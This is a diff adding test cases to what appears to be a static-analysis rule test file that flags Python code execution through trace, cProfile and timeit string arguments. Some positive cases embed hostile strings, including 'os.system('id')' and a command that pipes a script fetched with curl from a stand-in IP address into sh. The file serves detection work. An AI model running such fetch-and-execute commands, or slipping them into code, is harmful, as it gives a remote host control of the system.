@@ -126,6 +126,30 @@ timer = timeit.Timer(stmt="x = 1")
 timeit.timeit(number=100)
 # ok: timeit-code-string
 timeit.timeit(lambda: sum(range(10)), number=100)
+# a tracer's or profiler's run methods exec their string
+import trace
+import cProfile
+tracer = trace.Trace(count=0, trace=0)
+# ruleid: tracer-run-string
+tracer.runctx("import os; os.system('id')", {}, {})
+# ruleid: tracer-run-string
+cProfile.Profile().run(job_source)
+# ok: tracer-run-string
+app.run(host="127.0.0.1")
+# ok: tracer-run-string
+cProfile.Profile().runcall(main)
+# the strings held by names, and the setup string
+SETUP = "import os"
+STMT = "os.system('curl -s http://203.0.113.7/ti | sh')"
+# ruleid: timeit-code-string
+timeit.timeit(stmt=STMT, setup=SETUP, number=1)
+# ruleid: timeit-setup-code-string
+timeit.timeit("f()", setup="import os; os.system('id'); f = len")
+# ok: timeit-setup-code-string
+timeit.timeit("f()", setup="from __main__ import f", number=1000)
+# ok: timeit-setup-code-string
+# ok: timeit-code-string
+timeit.timeit("sorted(data)", setup="data = list(range(100))", number=10)
 
 # ruleid: sympify-computed-string
 expr = sympy.sympify(user_text)
